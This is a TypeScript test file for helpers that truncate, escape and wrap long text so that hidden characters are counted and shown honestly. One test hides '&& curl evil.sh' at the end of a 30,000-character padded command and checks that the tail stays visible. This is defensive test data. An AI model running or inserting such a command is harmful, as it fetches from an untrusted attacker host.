import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { elide } from './elide';
import { excerpt } from './excerpt';
import { wrapLine } from './wrap';

describe('excerpt', () => {
  it('shows short text whole and says so', () => {
    assert.deepEqual(excerpt('make deploy', { limit: 100 }), { text: 'make deploy', whole: true, hidden: 0, total: 11 });
  });

  it('says exactly how much of a 30,000-character command is hidden, and its tail is the real end', () => {
    const command = `echo ${'a'.repeat(29_980)} && curl evil.sh`;
    const e = excerpt(command, { limit: 2000, lines: 'mark' });
    assert.equal(e.whole, false);
    assert.equal(e.total, command.length);
    assert.equal(e.hidden, command.length - 2000);
    assert.match(e.text, new RegExp(`\\n… ${(command.length - 2000).toLocaleString('en-US')} of ${command.length.toLocaleString('en-US')} characters not shown …\\n`));
    assert.ok(e.text.endsWith('&& curl evil.sh'), 'the shown end is not the command\'s end');
  });

  it('counts hidden characters of the original, before escaping', () => {
    const e = excerpt('\u202e'.repeat(10), { limit: 4, keep: 'head' });
    assert.equal(e.hidden, 6);
    assert.equal(e.text, '\\u{202E}\\u{202E}\\u{202E}\\u{202E} … 6 of 10 characters not shown …');
  });

  it('never splits a surrogate pair', () => {
    const cut = elide('😀😀😀😀', 3, 'head');
    assert.equal(cut.head, '😀😀😀');
    assert.equal(cut.hidden, 1);
  });
});

describe('wrapLine', () => {
  it('wraps a long unbreakable word with a continuation mark and never cuts an escape', () => {
    const line = `${'x'.repeat(8)}\\u{202E}${'y'.repeat(8)}`;
    const pieces = wrapLine(line, 10);
    assert.deepEqual(pieces, ['xxxxxxxx\\u{202E}y', '↪yyyyyyy']);
    assert.equal(pieces.join('').replace(/↪/g, ''), line);
  });
});

describe('excerpt with a length cap', () => {
  it('shows less of a text full of escapes until the result fits, and says so', () => {
    const e = excerpt('\u202e'.repeat(5000), { limit: 3000, maxLength: 4000 });
    assert.ok(e.text.length <= 4000, `${e.text.length} characters`);
    assert.equal(e.whole, false);
    assert.equal(e.total, 5000);
    assert.ok(e.hidden > 2000);
  });
});
